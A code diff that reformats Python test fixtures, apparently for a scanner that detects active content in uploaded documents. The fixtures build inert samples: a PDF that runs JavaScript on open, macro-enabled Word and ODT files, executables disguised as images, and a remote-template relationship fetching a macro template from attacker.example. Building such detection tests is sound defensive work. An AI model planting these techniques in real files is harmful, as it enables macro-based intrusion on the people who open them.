@@ -32,8 +32,13 @@ def _open_action(action: DictionaryObject):
 
 def _document_javascript(writer) -> None:
     # A named script in the document's name tree: viewers run it when the file opens.
-    scripts = DictionaryObject({NameObject("/Names"): ArrayObject(
-        [TextStringObject("init"), writer._add_object(_action("/JavaScript", JS="app.alert(1)"))])})
+    scripts = DictionaryObject(
+        {
+            NameObject("/Names"): ArrayObject(
+                [TextStringObject("init"), writer._add_object(_action("/JavaScript", JS="app.alert(1)"))]
+            )
+        }
+    )
     writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})
 
 
@@ -85,38 +90,52 @@ def zip_bytes(members: dict[str, bytes | str]) -> bytes:
 
 
 def docx_bytes(main: str = DOCX_MAIN, extra_types: str = "", **members) -> bytes:
-    return zip_bytes({"[Content_Types].xml": content_types(main, extra_types),
-                      "word/document.xml": "<w:document/>", **members})
+    return zip_bytes(
+        {"[Content_Types].xml": content_types(main, extra_types), "word/document.xml": "<w:document/>", **members}
+    )
 
 
 def odt_bytes(**members) -> bytes:
-    return zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text",
-                      "content.xml": "<office:document-content><office:scripts/></office:document-content>",
-                      **members})
+    return zip_bytes(
+        {
+            "mimetype": "application/vnd.oasis.opendocument.text",
+            "content.xml": "<office:document-content><office:scripts/></office:document-content>",
+            **members,
+        }
+    )
 
 
 VBA = "application/vnd.ms-office.vbaProject"
 OLE_HEADER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 56
 # Office documents with macros or programs inside, whatever their name says.
 ACTIVE_DOCUMENTS = {
-    "docm renamed docx": docx_bytes(DOCM_MAIN, f'<Default Extension="bin" ContentType="{VBA}"/>',
-                                    **{"word/vbaProject.bin": OLE_HEADER}),
+    "docm renamed docx": docx_bytes(
+        DOCM_MAIN, f'<Default Extension="bin" ContentType="{VBA}"/>', **{"word/vbaProject.bin": OLE_HEADER}
+    ),
     "macro part with plain main type": docx_bytes(**{"word/vbaProject.bin": OLE_HEADER}),
     "macro content type only": docx_bytes(extra_types=f'<Override PartName="/word/x.bin" ContentType="{VBA}"/>'),
     "macro-enabled template": docx_bytes("application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
     "executable member": docx_bytes(**{"word/media/setup.exe": b"MZ\x90\x00" + b"\x00" * 60}),
     "program disguised as an image": docx_bytes(**{"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 60}),
     "embedded OLE package": docx_bytes(**{"word/embeddings/oleObject1.bin": OLE_HEADER}),
-    "remote macro template": docx_bytes(**{"word/_rels/settings.xml.rels": (
-        '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
-        '</Relationships>')}),
+    "remote macro template": docx_bytes(
+        **{
+            "word/_rels/settings.xml.rels": (
+                '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>'
+                "</Relationships>"
+            )
+        }
+    ),
     "ODT with Basic macros": odt_bytes(**{"Basic/Standard/Module1.xml": "<script:module/>"}),
     "ODT with scripts": odt_bytes(**{"Scripts/python/run.py": "import os"}),
-    "ODT with a macro bound to an event": odt_bytes(**{
-        "content.xml": '<office:document-content><office:event-listeners><script:event-listener '
-                       'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main'
-                       '?language=Basic&amp;location=document"/></office:event-listeners></office:document-content>'}),
+    "ODT with a macro bound to an event": odt_bytes(
+        **{
+            "content.xml": "<office:document-content><office:event-listeners><script:event-listener "
+            'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main'
+            '?language=Basic&amp;location=document"/></office:event-listeners></office:document-content>'
+        }
+    ),
 }
 
 
